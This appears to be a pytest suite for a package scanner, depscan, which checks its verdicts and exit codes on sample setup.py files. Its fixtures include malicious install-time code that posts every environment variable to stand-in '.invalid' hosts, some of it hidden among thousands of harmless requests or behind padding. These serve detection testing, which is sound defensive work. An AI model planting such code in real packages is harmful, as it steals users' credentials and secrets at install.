"""Inspect: verdicts, exit codes, stories, and what is not followed."""

from __future__ import annotations

from pathlib import Path

import pytest

import depscan
from depscan.facts.read import read_artifact
from depscan.inspection import inspect_bytes
from depscan.model.result import ScanResult

THIEF = """
import os
import requests
from setuptools import setup

requests.post("https://collector.invalid/in", json=dict(os.environ))
setup(name="demo")
"""
HONEST = """
from setuptools import setup

setup(name="demo", version="1.0", packages=["demo"])
"""


def inspect(tmp_path: Path, **files: str) -> ScanResult:
    for name, text in files.items():
        (tmp_path / f"{name}.py").write_text(text, "utf-8")
    return depscan.inspect([str(tmp_path)])


def test_a_thief_is_malicious_and_the_story_says_when_and_what(tmp_path: Path) -> None:
    result = inspect(tmp_path, setup=THIEF)
    assert (result.verdict, result.exit_code) == ("malicious", 1)
    told = next(f for f in result.findings if f.rule == "exfiltration/environment-over-network")
    assert "at install" in told.message
    assert "reads all environment variables" in told.message
    assert told.primary.line == 6


def test_an_honest_setup_is_clean(tmp_path: Path) -> None:
    result = inspect(tmp_path, setup=HONEST)
    assert (result.verdict, result.exit_code) == ("clean", 0)


def test_install_code_that_cannot_be_read_is_never_clean(tmp_path: Path) -> None:
    result = inspect(tmp_path, setup="exec(((\nclass :\n def (:\n")
    assert result.verdict in {"incomplete", "suspicious", "malicious"}
    assert result.exit_code != 0


def test_what_cannot_be_opened_is_bad_input(tmp_path: Path) -> None:
    result = depscan.inspect([str(tmp_path / "missing.whl")])
    assert (result.verdict, result.exit_code) == ("bad-input", 2)


def test_a_failing_reader_makes_the_verdict_incomplete(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from depscan.facts import python

    def broken(*_: object) -> None:
        raise ZeroDivisionError

    monkeypatch.setattr(python, "read_entries", broken)
    (tmp_path / "demo").mkdir()
    (tmp_path / "demo" / "__init__.py").write_text("import socket\n", "utf-8")
    result = depscan.inspect([str(tmp_path)])
    assert (result.verdict, result.exit_code) == ("incomplete", 4)
    assert any("ZeroDivisionError" in c.why for c in result.coverage)


def test_thousands_of_harmless_calls_do_not_hide_the_payload(tmp_path: Path) -> None:
    noise = "\n".join(f"requests.get('https://a.invalid/{i}')" for i in range(3000))
    text = f"import os\nimport requests\n{noise}\nrequests.post('https://c.invalid', json=dict(os.environ))\n"
    assert inspect(tmp_path, setup=text).verdict == "malicious"


def test_bytes_are_inspected_without_a_file() -> None:
    assert inspect_bytes(THIEF.encode(), "setup.py").verdict == "malicious"


def test_reading_an_artifact_says_when_each_path_first_runs(tmp_path: Path) -> None:
    from depscan.artifacts.open import open_artifact

    (tmp_path / "setup.py").write_text(HONEST, "utf-8")
    _, when = read_artifact(open_artifact(str(tmp_path)))
    assert when == {"setup.py": "install"}


def test_text_made_of_the_environment_keeps_where_it_came_from(tmp_path: Path) -> None:
    """str(dict(...)) once folded to the text of the class and lost the flow."""
    thief = THIEF.replace("json=dict(os.environ)", "data=str(dict(os.environ))")
    assert inspect(tmp_path, setup=thief).verdict == "malicious"


def test_padding_before_an_imported_payload_is_never_clean(tmp_path: Path) -> None:
    padding = f"DATA = os.path.join('{'subprocess ' * 50_000}')"
    payload = "import os, requests\nrequests.post('https://c.invalid', data=str(os.environ))\n"
    result = inspect(tmp_path, setup=f"import os\n{padding}\nimport helper\n", helper=payload)
    assert result.exit_code != 0
